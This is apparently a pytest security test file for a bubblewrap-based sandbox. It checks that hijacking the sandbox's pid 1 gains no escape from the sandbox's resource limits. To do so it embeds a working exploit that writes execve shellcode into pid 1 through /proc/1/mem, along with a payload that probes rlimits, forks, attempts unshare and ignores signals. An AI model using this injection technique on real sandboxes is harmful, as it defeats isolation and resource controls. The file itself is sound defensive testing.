"""Hijacking the sandbox's pid 1 (bwrap's namespace init) must not escape the sandbox's limits.

That init is of the program's uid and dumpable, so a program may open /proc/1/mem read-write (ptrace is
filtered, this is not), write code at the address in /proc/1/syscall and wake the init: pid 1 then runs
the attacker's code. It used to run it without any rlimit (`AS=(-1,-1) CPU=(-1,-1)`). Now the bootstrap
gives pid 1 the program's own rlimits before any program code runs, so the hijack gains nothing.
"""

from __future__ import annotations

import asyncio
import platform
import uuid

import psutil
import pytest
from gymflow.environments.sandbox import BubblewrapSandbox, Limits, SandboxStatus

from tests.security import requires_bwrap

pytestmark = requires_bwrap

MIB = 1 << 20
LIMITS = Limits(wall_s=10, cpu_s=6, memory_bytes=256 * MIB, max_procs=12, open_files=64, file_bytes=4 * MIB,
                tmpfs_bytes=8 * MIB)
x86_64_only = pytest.mark.skipif(platform.machine() != "x86_64", reason="the injected code is x86-64 machine code")

# What runs as pid 1 once hijacked: it reports its limits, then tries what the limits should stop.
_PAYLOAD = r'''
import ctypes, errno, mmap, os, resource, signal, time
NAMES = ("AS", "CPU", "NPROC", "NOFILE", "FSIZE", "CORE")
found = {n: resource.getrlimit(getattr(resource, "RLIMIT_" + n)) for n in NAMES}
try:
    mmap.mmap(-1, 1536 << 20)  # address space only, never touched: no cgroup OOM, just RLIMIT_AS
    found["map"] = "mapped"
except OSError:
    found["map"] = "refused"
kids = []
for _ in range(64):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    kids.append(pid)
found["forks"] = len(kids)
for pid in kids:
    os.kill(pid, signal.SIGKILL)
libc = ctypes.CDLL(None, use_errno=True)
found["unshare"] = "ok" if libc.unshare(0x10000000) == 0 else errno.errorcode[ctypes.get_errno()]
print("HIJACKED", os.getpid(), repr(found), flush=True)
if MODE == "linger":  # an init that refuses to die: the run's end must still take it down
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    time.sleep(120)
'''

# The attacker: writes execve(python3, [python3, -I, -c, PAYLOAD]) over pid 1's code where its wait4()
# will return, then makes an orphan exit so the init's wait returns into that code.
_ATTACK = r'''
import os, struct, sys, time

def p64(v):
    return struct.pack("<Q", v)

for _ in range(200):
    fields = open("/proc/1/syscall").read().split()
    if fields[0] == "61":  # wait4: the init is parked in do_init's loop
        break
    time.sleep(0.01)
pc = int(fields[-1], 16)
strings = [b"/usr/bin/python3\0", b"-I\0", b"-c\0", PAYLOAD.encode() + b"\0"]
code_len = 10 + 10 + 2 + 5 + 2 + 5 + 5 + 2
addrs, blob = [], b""
for s in strings:
    addrs.append(pc + code_len + len(blob))
    blob += s
blob += b"\0" * (-(pc + code_len + len(blob)) % 8)
argv = pc + code_len + len(blob)
blob += b"".join(p64(a) for a in [*addrs, 0])
code = (b"\x48\xbf" + p64(addrs[0])  # movabs rdi, path
        + b"\x48\xbe" + p64(argv)  # movabs rsi, argv
        + b"\x31\xd2"  # xor edx, edx (envp = NULL)
        + b"\xb8\x3b\x00\x00\x00\x0f\x05"  # mov eax, 59 (execve); syscall
        + b"\xbf\x2a\x00\x00\x00\xb8\xe7\x00\x00\x00\x0f\x05")  # exit_group(42) if execve failed
fd = os.open(MEM, os.O_RDWR)
os.pwrite(fd, code + blob, pc)
os.close(fd)
print("wrote", len(code + blob), flush=True)
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.2)
        os._exit(0)  # an orphan: reaped by pid 1, whose wait4 then returns into our code
    os._exit(0)
os.wait()
time.sleep(60)
'''


def attack(mem: str, mode: str = "report", marker: str = "") -> str:
    payload = f"MODE = {mode!r}  # {marker}\n" + _PAYLOAD
    return f"MEM = {mem!r}\nPAYLOAD = {payload!r}\n" + _ATTACK


def hijack_report(stdout: str) -> dict[str, object]:
    lines = [line for line in stdout.splitlines() if line.startswith("HIJACKED ")]
    assert lines, f"the hijack did not run (stdout: {stdout!r})"
    _, pid, found = lines[0].split(" ", 2)
    assert pid == "1"
    return eval(found)  # noqa: S307 - our own payload's repr() of a dict of ints and strings


@pytest.fixture(scope="module", params=["cgroups", "rlimits only"])
def sb(request: pytest.FixtureRequest) -> BubblewrapSandbox:
    sandbox = BubblewrapSandbox(cgroups=request.param == "cgroups")
    if request.param == "cgroups" and sandbox.cgroups is None:
        pytest.skip("no usable cgroups here")
    return sandbox


@x86_64_only
@pytest.mark.parametrize("mem", ["/proc/1/mem", "/proc/1/task/1/mem"])
async def test_a_hijacked_init_has_the_sandboxs_limits(sb: BubblewrapSandbox, mem: str) -> None:
    result = await sb.run_python(attack(mem), limits=LIMITS)
    found = hijack_report(result.stdout)
    assert found["AS"] == (LIMITS.memory_bytes, LIMITS.memory_bytes)
    assert found["CPU"] == (LIMITS.cpu_s, LIMITS.cpu_s + 1)
    assert found["NOFILE"] == (LIMITS.open_files, LIMITS.open_files)
    assert found["FSIZE"] == (LIMITS.file_bytes, LIMITS.file_bytes)
    assert found["CORE"] == (0, 0)
    assert found["map"] == "refused"  # the report's attack mapped 1.5 GiB
    assert found["unshare"] == "EPERM"  # the syscall filter holds in the init too
    # The init, the attacker and its forks share one task budget: the pids cgroup, else RLIMIT_NPROC.
    assert isinstance(found["forks"], int) and found["forks"] <= LIMITS.max_procs - 2
    if sb.cgroups is None:
        assert found["NPROC"] == (LIMITS.max_procs, LIMITS.max_procs)


@x86_64_only
async def test_a_hijacked_init_that_ignores_signals_dies_with_the_run(sb: BubblewrapSandbox) -> None:
    marker = f"gymflow-hijack-{uuid.uuid4().hex}"
    result = await sb.run_python(attack("/proc/1/mem", "linger", marker), limits=Limits(
        wall_s=4, cpu_s=4, memory_bytes=LIMITS.memory_bytes, max_procs=LIMITS.max_procs))
    hijack_report(result.stdout)
    assert result.status is SandboxStatus.TIMEOUT
    for _ in range(100):  # the kill is asynchronous; it has to land within a second
        alive = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
        if not alive:
            break
        await asyncio.sleep(0.01)
    assert not alive, alive


_LIMITS_OF_INIT = r'''
import resource
names = {"Max cpu time": "CPU", "Max file size": "FSIZE", "Max core file size": "CORE", "Max stack size": "STACK",
         "Max processes": "NPROC", "Max open files": "NOFILE", "Max address space": "AS"}
def table(pid):
    rows = {}
    for line in open(f"/proc/{pid}/limits").read().splitlines()[1:]:
        for label, name in names.items():
            if line.startswith(label):
                rows[name] = line[len(label):].split()[:2]
    return rows
init, own = table(1), table("self")
print("same" if init == own else f"init {init} own {own}")
for name in ("AS", "NPROC", "CPU"):
    which = getattr(resource, "RLIMIT_" + name)
    try:
        resource.prlimit(1, which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print(name, "init raised")
    except (OSError, ValueError) as err:
        print(name, "init", type(err).__name__)
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print(name, "own raised")
    except (OSError, ValueError) as err:
        print(name, "own", type(err).__name__)
'''


async def test_init_limits_match_the_programs_and_cannot_be_raised(sb: BubblewrapSandbox) -> None:
    """Any architecture: /proc/1/limits shows the caps, and neither pid 1's nor one's own can be raised."""
    result = await sb.run_python(_LIMITS_OF_INIT, limits=Limits(**{**LIMITS.__dict__, "stack_bytes": 64 * MIB}))
    assert result.succeeded, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "same", lines[0]
    assert lines[1:] == [f"{name} {who} {err}" for name in ("AS", "NPROC", "CPU")
                         for who, err in (("init", "PermissionError"), ("own", "ValueError"))]
